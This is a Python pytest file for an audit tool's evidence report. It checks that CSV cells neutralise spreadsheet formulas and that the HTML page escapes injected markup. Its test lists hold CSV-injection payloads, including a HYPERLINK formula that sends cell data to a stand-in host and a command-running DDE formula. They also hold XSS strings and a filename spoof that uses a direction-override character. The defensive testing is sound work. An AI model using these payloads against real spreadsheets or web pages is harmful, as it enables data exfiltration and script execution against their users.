"""What a reader gets: cells that are no formulas, a page that no event can write into, and warnings that come first."""

import csv
import html.parser
import io
from collections.abc import Sequence
from pathlib import Path

import pytest

from audit import evidence_report
from audit.evidence import COLUMNS, Item, Line, Span, cell, index_row, visible
from tests.audit.evidence import papers
from tests.audit.evidence.papers import Log, body

# OWASP, CSV Injection.
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=HYPERLINK("http://evil.test?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "=1;=2",
]
HARMLESS = ["", "agent:a", "/srv/a=b", "1-1", "2026-11-25T12:00:00Z", "it's", "a\tb"]
HOSTILE = [
    "<script>alert(1)</script>",
    "</td></table><img src=x onerror=alert(1)>",
    '"><a href="javascript:alert(1)">x</a>',
    "&lt;b&gt;",
    "</title><style>*{display:none}</style>",
    "\u202egnp.exe",
    "<!-- ",
]
ALLOWED = {
    *("html", "head", "meta", "title", "style", "body", "main", "header", "p", "h1", "h2", "dl", "div", "dt", "dd"),
    *("details", "summary", "ul", "li", "code", "section", "table", "thead", "tbody", "tr", "th", "td", "time", "q"),
    *("small", "b", "a", "strong"),
}


class Tags(html.parser.HTMLParser):
    """All tags, links, and names of attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str | None] = []
        self.names: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.names.update(name for name, _ in attrs)
        self.links += [value for name, value in attrs if name in ("href", "src")]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_defused(text: str) -> None:
    assert cell(text).startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_defused_formula_reaches_no_cell_of_the_index(tmp_path: Path, text: str) -> None:
    log = Log([body(1, kind=text, act={"sub": text})])
    papers.write(tmp_path / "e.zip", log, narrate=lambda items: [Line(text, text, text, text, text, text)])
    [_, row] = csv.reader(io.StringIO(papers.read(tmp_path / "e.zip")["index.csv"].decode(), newline=""))
    assert [value for value in row if value.startswith(("=", "+", "-", "@", "\t", "\r", " "))] == []
    assert len(row) == len(COLUMNS)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == visible(text)
    assert not cell(text).startswith("'")


def test_line_breaks_and_hidden_characters_do_not_reach_a_cell() -> None:
    assert cell("a\r\nb\nc\u202ed\x00e") == "a b c\ufffdd\ufffde"


def test_row_of_the_index_has_its_columns() -> None:
    [item] = Log([body(1)]).items()
    found = dict(zip(COLUMNS, index_row(item, Line("Ada", "", host="example.test", path="/a")), strict=True))
    assert (found["leaf"], found["seq"], found["who"], found["host"]) == ("0", "1", "Ada", "example.test")
    assert (found["time"], found["act"]) == ("2026-11-25T12:00:01.000000Z", "agent:a")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(tmp_path: Path, text: str) -> None:
    plain, hostile = _page(tmp_path, "harmless"), _page(tmp_path, text)
    assert Tags(hostile).tags == Tags(plain).tags
    assert set(Tags(hostile).tags) <= ALLOWED
    assert Tags(hostile).names <= {
        "lang",
        "charset",
        "name",
        "content",
        "http-equiv",
        "data-label",
        "class",
        "href",
        "scope",
    }
    assert Tags(hostile).links == ["entries/0.json", "proofs/0.tlog-proof"]
    assert "\u202e" not in hostile


def _page(folder: Path, text: str) -> str:
    log = Log([body(1, kind=text, outcome=text, act={"sub": text}, occurred_at=text)])

    def narrate(items: Sequence[Item]) -> list[Line]:
        return [Line(text, text, text, text, text, text) for _ in items]

    selection = {"kind": "period", "title": text, "since": text, "until": text}
    stamped = {"authority": text, "problem": text}
    papers.write(folder / "e.zip", log, narrate=narrate, selection=selection, timestamp_said=stamped)
    return papers.read(folder / "e.zip")["report.html"].decode()


def test_page_forbids_scripts_by_itself(tmp_path: Path) -> None:
    page = _page(tmp_path, "harmless")
    assert "content=\"default-src 'none'; style-src 'unsafe-inline'\"" in page
    assert "<script" not in page


def test_events_without_a_proof_are_said_first(tmp_path: Path) -> None:
    log, late = Log([body(1)]), body(2)
    papers.write(tmp_path / "e.zip", log, [*log.items(), Item(None, late, {**log.items()[0].content, "seq": 2})])
    page = papers.read(tmp_path / "e.zip")["report.html"].decode()
    assert page.index("1 of the events are not proven") < page.index("<table>")
    assert "<strong>not proven</strong>" in page


def test_time_stamp_that_could_not_be_had_is_said(tmp_path: Path) -> None:
    stamped = {"authority": "http://tsa.test", "problem": "it did not answer"}
    found = papers.write(tmp_path / "e.zip", Log([body(1)]), timestamp_said=stamped)
    assert evidence_report.warnings_of(found) == ["There is no time-stamp: it did not answer."]
    assert "openssl ts" not in papers.read(tmp_path / "e.zip")["README.txt"].decode()


def test_events_that_were_gone_are_said(tmp_path: Path) -> None:
    found = papers.write(tmp_path / "e.zip", Log([body(3)]))
    assert found.missing == [Span(str(papers.SESSION), 1, 2, 2)]
    assert evidence_report.warnings_of(found)[0].startswith("Events 1 to 2 of stream")


def test_report_says_how_many_it_leaves_to_the_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(evidence_report, "MOST_SHOWN", 2)
    papers.write(tmp_path / "e.zip", Log([body(seq) for seq in (1, 2, 3)]))
    files = papers.read(tmp_path / "e.zip")
    assert b"The first 2 of 3 events are shown here; index.csv has all of them." in files["report.html"]
    assert len(files["index.csv"].splitlines()) == 4


def test_very_long_text_is_cut_in_the_report_only(tmp_path: Path) -> None:
    log = Log([body(1, data={"path": "x" * 9_000})])
    papers.write(tmp_path / "e.zip", log)
    files = papers.read(tmp_path / "e.zip")
    assert b"x" * 2_000 + "…".encode() in files["report.html"]
    assert b"x" * 9_000 in files["index.csv"]
